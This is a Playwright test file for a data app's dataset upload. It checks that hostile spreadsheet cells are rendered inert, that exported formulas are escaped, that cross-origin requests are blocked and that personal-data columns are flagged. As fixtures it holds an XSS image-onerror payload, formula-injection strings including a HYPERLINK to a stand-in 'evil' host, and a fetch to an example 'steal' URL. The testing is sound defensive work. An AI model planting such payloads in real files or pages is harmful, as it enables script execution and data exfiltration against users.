import { expect, test, type Page } from '@playwright/test';
import writeXlsxFile from 'write-excel-file/universal';
import { DatasetsPage } from './pages/datasets-page.ts';
import { DesignerPage } from './pages/designer-page.ts';
import { ResultsPage } from './pages/results-page.ts';

const XSS = '<img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("http://evil","x")';

/** A small HR export with hostile cells and one ragged row (an import problem that must be shown). */
function hostileCsv(): string {
  const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
  return [
    'employee_id,name,department,salary,comment',
    `1,${q(XSS)},Sales,52000,${q(FORMULA)}`,
    `2,Ana,Engineering,61000,${q('+SUM(A1:A3)')}`,
    `3,Ben,Sales,48000,fine`,
    `4,Chloe,HR,57000,ok,unexpected extra value`,
    `5,Dev,Engineering,66000,${q('@cmd')}`,
    `6,Eve,Sales,-5,negative number stays a number`,
  ].join('\r\n');
}

/** Records every request that leaves the page's origin, and every dialog (alert) that opens. */
function watchLeaks(page: Page, origin: string) {
  const foreign: string[] = [];
  const dialogs: string[] = [];
  page.on('request', (r) => {
    const url = r.url();
    if (url.startsWith('data:') || url.startsWith('blob:') || url.startsWith('about:')) return;
    if (new URL(url).origin !== origin) foreign.push(url);
  });
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  return { foreign, dialogs };
}

test('the served app forbids requests to other origins (CSP connect-src self)', async ({ page }) => {
  const res = await page.goto('/');
  const csp = res?.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("connect-src 'self'");
  expect(csp).toContain("default-src 'self'");
  expect(csp).not.toContain("'unsafe-eval'");
  // The page's own code cannot reach another origin either.
  const blocked = await page.evaluate(() =>
    fetch('http://example.com/steal', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(blocked).toBe('blocked');
});

test('hostile cells: nothing executes, problems are listed, export escapes formulas, nothing leaves the origin', async ({ page, baseURL }) => {
  test.setTimeout(120_000);
  const origin = new URL(baseURL!).origin;
  const { foreign, dialogs } = watchLeaks(page, origin);
  const designer = new DesignerPage(page);
  const datasets = new DatasetsPage(page);
  const results = new ResultsPage(page);
  await designer.openFresh();
  await datasets.open();
  await expect(datasets.panel.getByTestId('datasets-empty')).toBeVisible();

  await datasets.upload({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(hostileCsv(), 'utf8') });
  const item = await datasets.waitForDataset('hostile.csv');
  await expect(datasets.facts('hostile.csv')).toContainText('6 rows');
  await expect(datasets.facts('hostile.csv')).toContainText('5 columns');
  // The ragged row is reported with its row number and value, not silently dropped.
  const problems = datasets.problems('hostile.csv');
  await expect(problems).toBeVisible();
  await expect(problems.locator('summary')).toContainText(/\d+ import problem/);
  await expect(problems.locator('li').first()).toContainText('Row 4');
  await expect(problems.locator('li').first()).toContainText('unexpected extra value');
  await item.getByText('Columns', { exact: true }).click();
  await expect(item.locator('.cf-dataset-columns li', { hasText: 'comment' })).toBeVisible();
  await designer.screenshot('datasets-panel');

  // Preview: the hostile strings are shown as text.
  const preview = await datasets.preview('hostile.csv');
  await expect(preview.getByRole('gridcell', { name: XSS })).toBeVisible();
  await expect(preview.getByRole('gridcell', { name: FORMULA })).toBeVisible();
  await page.screenshot({ path: 'e2e/screenshots/dataset-preview-hostile.png' });
  await preview.getByTestId('close-preview').click();

  // Use it on the canvas, run, and open the source node's table.
  await datasets.useOnCanvas('hostile.csv');
  const ids = await designer.nodeIds();
  expect(ids).toHaveLength(1);
  const sourceId = ids[0];
  await designer.runAll();
  await expect(designer.nodeStatus(sourceId)).toContainText(/Done|Cached/, { timeout: 60_000 });
  await designer.select(sourceId);
  await results.openTab('table');
  await expect(results.grid.getByRole('gridcell', { name: XSS })).toBeVisible();

  // Export: formulas neutralised with a leading apostrophe, plain negative numbers untouched.
  const { download, text } = await results.downloadCsv();
  expect(download.suggestedFilename()).toMatch(/\.csv$/);
  expect(text).toContain(`"'=HYPERLINK(""http://evil"",""x"")"`);
  expect(text).toContain("'+SUM(A1:A3)");
  expect(text).toContain("'@cmd");
  expect(text).toContain(XSS);
  expect(text).toMatch(/\r\n6,Eve,Sales,-5,/);
  expect(text).not.toMatch(/(^|,)=HYPERLINK/m);

  // Nothing ran: no alert, no <img src="x"> anywhere (page or preview), no request to another origin.
  await page.waitForTimeout(300);
  expect(dialogs).toEqual([]);
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(await page.evaluate(() => document.querySelectorAll('img[src="x"], script:not([src])').length)).toBe(0);
  expect(foreign).toEqual([]);
});

test('a file dropped on the canvas is imported; datasets can be deleted', async ({ page }) => {
  const designer = new DesignerPage(page);
  const datasets = new DatasetsPage(page);
  await designer.openFresh();
  await datasets.dropOnCanvas({ name: 'survey.csv', mimeType: 'text/csv', text: 'employee_id,engagement\n1,4.5\n2,3.9\n3,\n' });
  // The app switches to the datasets panel to show the upload.
  await expect(datasets.panel).toBeVisible();
  await datasets.waitForDataset('survey.csv');
  await expect(datasets.facts('survey.csv')).toContainText('3 rows');
  await expect(datasets.facts('survey.csv')).toContainText('2 columns');

  // It survives a reload (IndexedDB), then goes when deleted.
  await page.reload();
  await datasets.open();
  await datasets.waitForDataset('survey.csv');
  await datasets.delete('survey.csv');
  await expect(datasets.panel.getByTestId('datasets-empty')).toBeVisible();
});

test('a file that is not a table is refused with a reason', async ({ page }) => {
  const designer = new DesignerPage(page);
  const datasets = new DatasetsPage(page);
  await designer.openFresh();
  await datasets.open();
  await datasets.upload({ name: 'empty.csv', mimeType: 'text/csv', buffer: Buffer.alloc(0) });
  await expect(datasets.panel.getByTestId('upload-status').getByRole('alert')).toContainText('empty');
});

test('an Excel workbook is imported in the browser (parsed in a worker)', async ({ page }) => {
  const v = (value: string | number | boolean | Date) => ({ value });
  const blob = await writeXlsxFile([
    {
      sheet: 'Staff',
      data: [
        [v('employee_id'), v('department'), v('rating'), v('note')],
        [v(1), v('Sales'), v(4), v(FORMULA)],
        [v(2), v('HR'), v(3), v(XSS)],
        [v(3), v('Sales'), v(5), v('ok')],
      ],
    },
  ] as never).toBlob();
  const designer = new DesignerPage(page);
  const datasets = new DatasetsPage(page);
  await designer.openFresh();
  await datasets.open();
  await datasets.upload({
    name: 'staff.xlsx',
    mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    buffer: Buffer.from(await blob.arrayBuffer()),
  });
  const item = await datasets.waitForDataset('staff.xlsx');
  await expect(datasets.facts('staff.xlsx')).toContainText('3 rows');
  await expect(datasets.facts('staff.xlsx')).toContainText('4 columns');
  await expect(item).toContainText('Excel');
  const preview = await datasets.preview('staff.xlsx');
  await expect(preview.getByRole('gridcell', { name: XSS })).toBeVisible();
  expect(await page.locator('img[src="x"]').count()).toBe(0);
});

test('an upload with personal data shows which columns hold it and what to do', async ({ page }) => {
  const designer = new DesignerPage(page);
  const datasets = new DatasetsPage(page);
  await designer.openFresh();
  await datasets.open();
  const first = ['Jane', 'Omar', 'Priya', 'Lars', 'Mei', 'Sofia'];
  const last = ['Doe', 'Haddad', 'Okafor', 'Lindqvist', 'Moreau', 'Brennan', 'Novak'];
  const rows = ['employee_id,full_name,work_email,Mobile,department,salary'];
  for (let i = 0; i < 40; i++) rows.push(`${i + 1},${first[i % 6]} ${last[i % 7]},p${i}@example.com,+44 7700 900${100 + i},${['Sales', 'HR'][i % 2]},${50000 + i * 100}`);
  await datasets.upload({ name: 'staff-contacts.csv', mimeType: 'text/csv', buffer: Buffer.from(rows.join('\n'), 'utf8') });
  const item = await datasets.waitForDataset('staff-contacts.csv');
  const notice = item.getByTestId('pii-notice');
  await expect(notice).toBeVisible();
  await expect(notice.locator('summary')).toHaveText('Personal data in 3 columns');
  await expect(notice.getByTestId('pii-finding')).toHaveCount(3);
  await expect(notice.locator('[data-column="full_name"]')).toContainText('person names');
  await expect(notice.locator('[data-column="work_email"]')).toContainText('e-mail addresses');
  await expect(notice.locator('[data-column="Mobile"]')).toContainText('phone numbers');
  await expect(notice.getByTestId('pii-advice')).toHaveText(
    'What to do with full_name, work_email and Mobile: drop it (select-columns) before modelling and exports, or pseudonymize it (pseudonymize node) if you need it to join or count.',
  );
  await item.screenshot({ path: 'e2e/screenshots/dataset-pii-notice.png' });
});
